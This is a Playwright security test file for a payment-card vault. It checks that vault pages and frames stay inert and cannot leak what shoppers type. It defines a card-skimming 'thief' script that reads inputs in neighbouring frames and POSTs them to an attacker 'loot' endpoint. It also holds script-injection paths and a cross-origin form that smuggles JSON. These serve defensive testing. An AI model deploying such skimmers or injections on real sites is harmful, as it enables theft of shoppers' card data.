import { expect } from '@playwright/test';
import { attackerOrigin, shopOrigin, test, vaultOrigin, type World } from './world/fixtures.ts';
import { alsoEarly, prove } from './world/proof.ts';
import { hostsThatGot, openShop, typeCard } from './world/shop.ts';

test.describe.configure({ mode: 'parallel' });

/** Reads what customers type into the frames beside it and in its opener, and sends it away. */
const thief = `
const look = (window) => {
  for (let index = 0; index < window.length; index += 1) {
    try {
      const { value } = window[index].document.querySelector('input');
      if (value) fetch('${attackerOrigin}/loot', { method: 'POST', mode: 'no-cors', body: value });
    } catch {}
  }
};
look(parent);
if (opener) look(opener);
`;

const paths = [
  '/openapi.json',
  '/healthz',
  '/readyz',
  '/nowhere',
  `/%3Cscript%3E${encodeURIComponent('alert(1)')}%3C/script%3E`,
  '/tokens',
  '/applications/key',
  '/js/manifest.json',
  '/js/elements.js',
  '/js/basis-theory.js',
  '/web-elements/2.17.0/client/index.js',
  '/elements',
  '/elements/nowhere.js',
];

test('case 32: no document of the vault but the frame can act as its origin', async ({ world }) => {
  const page = await world.open(shopOrigin);
  const script = await page.evaluate(async (origin) => {
    const markup = await (await fetch(`${origin}/elements/`, { mode: 'cors' }).catch(() => new Response(''))).text();
    return markup;
  }, vaultOrigin);
  expect(script, 'a page may not read the frame').toBe('');

  for (const path of [...paths, await frameScript(world)]) {
    const opened = await world.context.newPage();
    const response = await opened.goto(vaultOrigin + path);
    expect.soft([path, await opened.evaluate(() => window.origin)]).toEqual([path, 'null']);
    expect.soft([path, response?.headers()['x-content-type-options']]).toEqual([path, 'nosniff']);
    await opened.close();
  }
});

/** The path of a script that a frame fetches. */
const frameScript = async (world: World): Promise<string> => {
  await openShop(world);
  const sent = world.requests.find(({ url }) => /^\/elements\/.+\.js$/.test(url.pathname));
  return sent?.url.pathname ?? '';
};

/** A middlebox, or a mistake, has answers with somebody's markup in them shown as pages. */
const showAsMarkup = (world: World): void =>
  world.alter(({ url }, answer) => {
    if (url.origin !== vaultOrigin || url.pathname !== '/nowhere') return answer;
    const { 'x-content-type-options': _, ...headers } = answer.headers;
    return {
      ...answer,
      headers: { ...headers, 'content-type': 'text/html' },
      body: `${answer.body}<script>${thief}</script>`,
    };
  });

alsoEarly(() => {
  prove('case 32: an answer with markup in it, opened in a frame beside the fields, reads none of them', {
    guard: 'documents of the vault are inert',
    attack: async (world) => {
      showAsMarkup(world);
      const page = await openShop(world);
      await typeCard(page);
      await page.evaluate((address) => window.attack.addFrame(address), `${vaultOrigin}/nowhere`);
      return hostsThatGot(world, '4242 4242');
    },
    held: [],
    fallen: ['attacker.localhost'],
  });

  prove('case 32: an answer with markup in it, opened in a tab by the shop, reads none of its fields', {
    guard: 'documents of the vault are inert',
    attack: async (world) => {
      showAsMarkup(world);
      const page = await openShop(world);
      await typeCard(page);
      const [tab] = await Promise.all([
        world.context.waitForEvent('page'),
        page.evaluate((address) => void window.open(address), `${vaultOrigin}/nowhere`),
      ]);
      await tab.waitForURL('**/nowhere');
      await tab.waitForLoadState('networkidle');
      return hostsThatGot(world, '4242 4242');
    },
    held: [],
    fallen: ['attacker.localhost'],
  });
});

test('case 32: a form that a page posts to the vault shows an inert answer, and makes nothing', async ({ world }) => {
  const { server } = world.accounts.acme;
  const before = await world.count(server);
  const page = await world.open(attackerOrigin);
  await Promise.all([
    page.waitForURL(`${vaultOrigin}/tokens`),
    page.evaluate((action) => {
      const form = document.createElement('form');
      Object.assign(form, { action, method: 'post', enctype: 'text/plain' });
      const input = document.createElement('input');
      Object.assign(input, { name: '{"type":"token","data":"<script>alert(1)</script>', value: '"}' });
      form.append(input);
      document.body.append(form);
      form.submit();
    }, `${vaultOrigin}/tokens`),
  ]);
  expect(await page.evaluate(() => window.origin)).toBe('null');
  expect(await page.content()).not.toContain('<script>');
  expect(await world.count(server)).toBe(before);
});
